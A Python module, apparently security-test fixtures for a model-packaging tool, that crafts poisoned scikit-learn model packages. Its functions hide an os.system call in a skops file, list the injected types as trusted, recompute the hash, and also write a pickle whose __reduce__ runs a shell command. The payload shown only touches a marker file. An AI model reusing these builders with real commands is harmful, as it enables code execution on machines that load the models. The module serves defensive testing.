"""Model files crafted the way an attacker would: each runs code (or crashes) when trusted."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import skops.io as sio
import yaml
from sklearn.linear_model import LogisticRegression

from shipyard.core.hashing import sha256_file


def _str_node(text: str) -> dict[str, Any]:
    return {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(text),
        "is_json": True,
    }


def reduce_node(module: str, name: str, *args: str) -> dict[str, Any]:
    """A skops node that calls ``module.name(*args)`` when the file is loaded."""
    return {
        "__class__": name,
        "__module__": module,
        "__loader__": "ConstructorFromReduceNode",
        "content": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "content": [_str_node(a) for a in args],
        },
    }


def craft_skops(path: Path, node: dict[str, Any], model: Any = None) -> list[str]:
    """Write a working skops model with ``node`` hidden in its attributes.

    Returns the types skops reports as untrusted (what an attacker lists as trusted).
    """
    if model is None:
        X = np.random.default_rng(0).normal(size=(60, 3))
        model = LogisticRegression().fit(X, (X[:, 0] > 0).astype(int))
    honest = path.with_suffix(".honest")
    sio.dump(model, honest)
    with zipfile.ZipFile(honest) as src, zipfile.ZipFile(path, "w") as out:
        for item in src.namelist():
            data = src.read(item)
            if item == "schema.json":
                schema = json.loads(data)
                attrs = schema["content"]
                attrs["content"]["pwned_"] = node
                keys = attrs["key_types"]
                (keys["content"] if isinstance(keys, dict) else keys).append(
                    {"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode"}
                )
                data = json.dumps(schema).encode()
            out.writestr(item, data)
    honest.unlink()
    return sorted(sio.get_untrusted_types(file=path))


def marker_command(marker: Path) -> str:
    """A shell command that leaves ``marker`` behind: proof that code ran."""
    return f"touch {marker}"


def poison_package(folder: Path, marker: Path) -> None:
    """Replace a package's skops file with one that runs ``touch marker`` and trusts it."""
    mlmodel = yaml.safe_load((folder / "MLmodel").read_text())
    conf = mlmodel["flavors"]["sklearn"]
    path = folder / conf["model_file"]
    types = craft_skops(path, reduce_node("os", "system", marker_command(marker)))
    conf["trusted_types"] = types
    conf["sha256"] = sha256_file(path)[0]
    mlmodel["flavors"].pop("onnx", None)
    (folder / "MLmodel").write_text(yaml.safe_dump(mlmodel, sort_keys=False))
    for extra in folder.glob("*.onnx"):
        extra.unlink()


class _RunsOnUnpickle:
    """Unpickling this calls ``os.system(command)``."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        import os

        return (os.system, (self.command,))


def pickle_package(folder: Path, marker: Path) -> None:
    """Turn a package's scikit-learn flavour into a pickle that runs ``touch marker``."""
    import pickle

    mlmodel = yaml.safe_load((folder / "MLmodel").read_text())
    conf = mlmodel["flavors"]["sklearn"]
    (folder / conf.pop("model_file", "model.skops")).unlink(missing_ok=True)
    for key in ("pickled_model", "skops_trusted_types", "trusted_types", "sha256"):
        conf.pop(key, None)
    (folder / "model.pkl").write_bytes(pickle.dumps(_RunsOnUnpickle(marker_command(marker))))
    conf.update(serialization_format="cloudpickle", pickled_model="model.pkl")
    mlmodel["flavors"].pop("onnx", None)
    (folder / "MLmodel").write_text(yaml.safe_dump(mlmodel, sort_keys=False))
    for extra in folder.glob("*.onnx"):
        extra.unlink()
